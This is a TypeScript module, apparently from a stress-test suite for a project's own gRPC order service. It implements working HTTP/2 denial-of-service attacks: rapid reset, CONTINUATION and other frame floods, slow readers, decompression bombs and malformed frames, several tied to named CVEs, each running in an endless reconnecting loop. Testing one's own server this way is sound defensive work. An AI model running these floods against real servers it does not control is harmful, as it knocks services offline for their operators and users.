import { once } from 'node:events';
import { connect } from 'node:http2';
import { setTimeout as delay } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { AllocateOrderRequest, BatchAllocateOrdersRequest } from '../../../../src/wire/gen/orders/v1/orders.ts';
import { Random } from '../../frame/random.ts';
import type { Attack, Target } from './attack.ts';
import { ATTACK_STORE, attackKey, SERVICE, times } from './attack.ts';
import {
  callHeaders,
  FLAG,
  frame,
  FRAME,
  headerBlock,
  MAX_PAYLOAD,
  message,
  ping,
  reset,
  settings,
  windowUpdate,
} from './frames.ts';
import { pause, RawConnection } from './raw-connection.ts';

const ALLOCATE = callHeaders(`${SERVICE}/AllocateOrder`);
const COMPRESSED: readonly (readonly [string, string])[] = [['grpc-encoding', 'gzip']];
const LIST = callHeaders(`${SERVICE}/ListAllocations`);
const { DATA, HEADERS, CONTINUATION, PRIORITY } = FRAME;
const { END_STREAM, END_HEADERS } = FLAG;
/** Frames that are written at once. */
const BURST = 200;

/** Streams that are opened and reset at once, so that none counts as open (CVE-2023-44487). */
const rapidReset: Attack = (target) =>
  overAndOver(target, BURST, (stream) => [frame(HEADERS, END_HEADERS, stream, ALLOCATE), reset(stream)]);

/** The same with complete requests, some of which are numbered. */
const cancellations: Attack = (target) => {
  let key = 0;
  return overAndOver(target, BURST, (stream) => [
    frame(HEADERS, END_HEADERS, stream, ALLOCATE),
    frame(DATA, END_STREAM, stream, allocation(key++)),
    reset(stream),
  ]);
};

const settingsFlood: Attack = (target) => overAndOver(target, BURST, () => [settings([3, 100])]);
const pingFlood: Attack = (target) => overAndOver(target, BURST, () => [ping()]);
const priorityFlood: Attack = (target) =>
  overAndOver(target, BURST, (stream) => [frame(PRIORITY, 0, stream, Buffer.of(0, 0, 0, 0, 16))]);
const windowFlood: Attack = (target) => overAndOver(target, BURST, () => [windowUpdate(0, 1)]);
/** Frames of no bytes that end nothing (CVE-2019-9518). */
const emptyData: Attack = (target) =>
  overAndOver(target, BURST, (stream, i) =>
    i === 0 ? [frame(HEADERS, END_HEADERS, stream, ALLOCATE)] : [frame(DATA, 0, stream - 2 * i)],
  );

/** A header list that never ends (CVE-2024-27316), of 16 KiB a frame. */
const continuationFlood: Attack = (target) => {
  const block = headerBlock([['x-padding', 'x'.repeat(MAX_PAYLOAD - 40)]]);
  return overAndOver(target, 20, (stream, i) =>
    i === 0 ? [frame(HEADERS, 0, stream, ALLOCATE)] : [frame(CONTINUATION, 0, stream - 2 * i, block)],
  );
};

/** Empty frames of a header list that never ends. */
const emptyContinuations: Attack = (target) =>
  overAndOver(target, BURST, (stream, i) =>
    i === 0 ? [frame(HEADERS, 0, stream, ALLOCATE)] : [frame(CONTINUATION, 0, stream - 2 * i)],
  );

/** Complete lists of headers, 100 KiB each. */
const hugeHeaders: Attack = (target) => {
  const block = callHeaders(`${SERVICE}/AllocateOrder`, [['x-large', 'x'.repeat(100_000)]]);
  const parts = Array.from({ length: Math.ceil(block.length / MAX_PAYLOAD) }, (_, i) =>
    block.subarray(i * MAX_PAYLOAD, (i + 1) * MAX_PAYLOAD),
  );
  return overAndOver(target, 10, (stream) =>
    parts.map((part, i) =>
      frame(i === 0 ? HEADERS : CONTINUATION, i === parts.length - 1 ? END_HEADERS : 0, stream, part),
    ),
  );
};

/** Pages of a list that nobody reads: with no room in the window, and with a full socket. */
const slowReaders: Attack = async (target) => {
  for (;;) {
    const connection = await RawConnection.http2(target.grpc, { reads: false, settings: [[4, 0]] });
    for (let stream = 1; stream < 200; stream += 2) {
      await connection?.send(
        frame(HEADERS, END_HEADERS, stream, LIST),
        frame(DATA, END_STREAM, stream, message(Buffer.of(0x10, 0xe8, 0x07))),
      );
    }
    target.did(100);
    await connection?.closed(500);
    connection?.destroy();
  }
};

/** Messages of 300 bytes that are 256 KiB, many in a frame: of zeros, and of requests without a field. */
const decompressionBombs: Attack = (target) => {
  const requests = BatchAllocateOrdersRequest.encode({
    requests: Array.from({ length: 120_000 }, () => ({ storeId: 0n, count: 0, requestId: '' })),
  }).finish();
  const bombs = [Buffer.alloc(50_000_000), Buffer.alloc(200_000), requests].map((bytes) =>
    message(gzipSync(bytes, { level: 9 }), true),
  );
  const batch = callHeaders(`${SERVICE}/BatchAllocateOrders`, COMPRESSED);
  return overAndOver(target, 10, (stream, i) => {
    const bomb = bombs[i % bombs.length]!;
    const copies = Math.max(1, Math.floor(MAX_PAYLOAD / bomb.length));
    const data = Buffer.concat(Array.from({ length: copies }, () => bomb)).subarray(0, MAX_PAYLOAD);
    return [frame(HEADERS, END_HEADERS, stream, batch), frame(DATA, 0, stream, data)];
  });
};

/** Batches of almost 256 KiB that lack their last byte, as fast as the server takes them. */
const unfinished: Attack = async (target) => {
  const data = message(Buffer.alloc(256 * 1024 - 64)).subarray(0, -1);
  for (;;) {
    const session = connect(`http://${target.grpc}`);
    session.on('error', () => {});
    for (let i = 0; i < 200; i++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': `${SERVICE}/BatchAllocateOrders`,
        'content-type': 'application/grpc',
        te: 'trailers',
      });
      stream.on('error', () => {});
      stream.write(data);
    }
    target.did(200);
    await Promise.race([once(session, 'close').catch(() => {}), delay(5000)]);
    session.destroy();
  }
};

/** Frames of every type with any flags, streams and lengths. */
const malformedFrames: Attack = (target) => {
  const random = new Random(target.seed);
  const bytes = (n: number) => Buffer.from(Array.from({ length: n }, () => random.below(256)));
  return overAndOver(target, 5, (stream) => {
    const payload = random.chance(0.3) ? ALLOCATE : bytes(random.below(40));
    const on = random.pick([0, 1, 2, stream, stream, 0x7fff_ffff, 0x8000_0001]);
    const length = random.chance(0.1) ? random.pick([0, 1, 0xff_ffff, payload.length + 1]) : undefined;
    return [frame(random.below(14), random.below(256), on, payload, length)];
  });
};

export const HTTP2_FLOODS: Readonly<Record<string, Attack>> = {
  'rapid reset': times(4, rapidReset),
  'a cancellation storm': times(4, cancellations),
  'a SETTINGS flood': times(2, settingsFlood),
  'a PING flood': times(2, pingFlood),
  'a PRIORITY flood': times(2, priorityFlood),
  'a WINDOW_UPDATE flood': times(2, windowFlood),
  'empty DATA frames': times(2, emptyData),
  'a CONTINUATION flood': times(4, continuationFlood),
  'empty CONTINUATION frames': times(2, emptyContinuations),
  'huge headers': times(4, hugeHeaders),
  'slow readers': times(8, slowReaders),
  'messages without an end': times(8, unfinished),
  'decompression bombs': times(4, decompressionBombs),
  'malformed frames': times(8, malformedFrames),
};

/** Sends bursts of frames, and connects again whenever the server has had enough. */
async function overAndOver(
  target: Target,
  burst: number,
  framesOf: (stream: number, i: number) => readonly Buffer[],
): Promise<void> {
  for (;;) {
    const connection = await RawConnection.http2(target.grpc);
    for (let stream = 1; stream < 2 ** 31;) {
      const frames: Buffer[] = [];
      for (let i = 0; i < burst; i++, stream += 2) frames.push(...framesOf(stream, i));
      if (!(await connection?.send(...frames))) break;
      target.did(burst);
    }
    connection?.destroy();
    await pause();
  }
}

function allocation(i: number): Buffer {
  return message(AllocateOrderRequest.encode({ storeId: ATTACK_STORE, requestId: attackKey(i) }).finish());
}
